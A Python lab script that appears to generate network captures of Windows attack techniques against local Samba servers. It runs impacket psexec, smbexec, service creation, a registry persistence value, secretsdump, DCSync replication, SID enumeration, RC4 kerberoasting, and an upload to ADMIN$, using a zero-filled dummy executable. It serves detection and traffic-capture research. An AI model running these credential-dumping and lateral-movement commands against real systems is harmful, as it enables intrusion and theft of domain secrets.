"""Examples of impacket against Samba: a file server without remote service management (requests are visible
nevertheless), and a domain controller. smbclient uploads a program to a share. Needs the package impacket, samba,
samba-ad-dc, krb5-user, smbclient.

The program that psexec uploads is replaced by zeros after an executable header: captures contain no third-party
binaries. Run it as ``python -m pcaps.lab.attacks.windows [SCENE...]``.
"""

from __future__ import annotations

import sys
from collections.abc import Iterator
from pathlib import Path

from pcaps.lab._lab import Host, Lab, record
from pcaps.lab._programs import ACCOUNT, ADMIN_PASSWORD, PASSWORD, domain_controller, file_server, smb

ATTACKER, SERVER = "10.20.10.66", "10.20.10.5"
TOOLS = Path(sys.executable).parent
LOCAL, DOMAIN = f"OFFICE/{ACCOUNT}:{PASSWORD}@{SERVER}", f"lab.example/{ACCOUNT}:{ADMIN_PASSWORD}"
MASTER = f"LAB/Administrator:{ADMIN_PASSWORD}@{SERVER}"


def _impacket(lab: Lab, attacker: Host, tool: str, *options: str, stdin: str = "") -> str:
    return lab.run(attacker, "timeout", "60", sys.executable, str(TOOLS / f"{tool}.py"), *options, stdin=stdin)


def _files(lab: Lab) -> Host:
    file_server(lab, lab.host("files", SERVER), "team", "ADMIN$")
    return lab.host("attacker", ATTACKER)


def _domain(lab: Lab) -> Host:
    domain_controller(lab, lab.host("dc01", SERVER))
    return lab.host("attacker", ATTACKER)


def _program(lab: Lab) -> Path:
    path = lab.folder / "tool.exe"
    path.write_bytes(b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(4000))
    return path


def psexec(lab: Lab) -> Iterator[None]:
    attacker, program = _files(lab), _program(lab)
    yield
    _impacket(
        lab, attacker, "psexec", "-file", str(program), "-service-name", "helper", LOCAL, "cmd.exe", stdin="exit\n"
    )


def smbexec(lab: Lab) -> Iterator[None]:
    attacker = _files(lab)
    yield
    _impacket(lab, attacker, "smbexec", LOCAL, stdin="exit\n")


def service(lab: Lab) -> Iterator[None]:
    attacker = _files(lab)
    yield
    _impacket(
        lab,
        attacker,
        "services",
        LOCAL,
        "create",
        "-name",
        "helper",
        "-display",
        "Helper",
        "-path",
        r"c:\windows\temp\helper.exe",
    )


def registry(lab: Lab) -> Iterator[None]:
    attacker = _files(lab)
    yield
    key = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion"
    _impacket(
        lab,
        attacker,
        "reg",
        LOCAL,
        "add",
        "-keyName",
        key,
        "-v",
        "Helper",
        "-vt",
        "REG_SZ",
        "-vd",
        r"c:\windows\temp\helper.exe",
    )


def secrets(lab: Lab) -> Iterator[None]:
    """secretsdump requests the registry hives of a host."""
    attacker = _files(lab)
    yield
    _impacket(lab, attacker, "secretsdump", LOCAL)


def enumeration(lab: Lab) -> Iterator[None]:
    attacker = _domain(lab)
    yield
    _impacket(lab, attacker, "samrdump", f"{DOMAIN}@{SERVER}")
    _impacket(lab, attacker, "lookupsid", f"{DOMAIN}@{SERVER}", "600")


def kerberoast(lab: Lab) -> Iterator[None]:
    """Service tickets with RC4 for all services, by the clients of MIT Kerberos: Samba rejects the requests of
    impacket.
    """
    attacker = _domain(lab)
    settings = lab.folder / "krb5.conf"
    ciphers = "".join(
        f"{name} = rc4-hmac\n" for name in ("default_tkt_enctypes", "default_tgs_enctypes", "permitted_enctypes")
    )
    about = f"default_realm = LAB.EXAMPLE\ndns_lookup_kdc = false\nallow_weak_crypto = true\n{ciphers}"
    settings.write_text(f"[libdefaults]\n{about}[realms]\nLAB.EXAMPLE = {{\nkdc = {SERVER}\n}}\n", encoding="ascii")
    more = {"KRB5_CONFIG": str(settings), "KRB5CCNAME": f"FILE:{lab.folder}/tickets"}
    yield
    lab.run(attacker, "kinit", ACCOUNT, stdin=f"{ADMIN_PASSWORD}\n", more=more)
    lab.run(
        attacker,
        "kvno",
        "-e",
        "rc4-hmac",
        *(f"MSSQLSvc/svc-{number}.lab.example:1433" for number in range(12)),
        more=more,
    )


def replication(lab: Lab) -> Iterator[None]:
    """DCSync: the secrets of the domain by directory replication."""
    attacker = _domain(lab)
    yield
    _impacket(lab, attacker, "secretsdump", "-just-dc-ntlm", MASTER)


def transfer(lab: Lab) -> Iterator[None]:
    """smbclient uploads a program to an administrative share."""
    attacker, program = _files(lab), _program(lab)
    yield
    smb(lab, attacker, Host("files", "", SERVER), "ADMIN$", f"put {program} update.exe; dir")


if __name__ == "__main__":
    record(
        Path(__file__).parent,
        windows_psexec=psexec,
        windows_smbexec=smbexec,
        windows_service=service,
        windows_registry=registry,
        windows_secrets=secrets,
        windows_enumeration=enumeration,
        windows_kerberoast=kerberoast,
        windows_replication=replication,
        windows_transfer=transfer,
    )
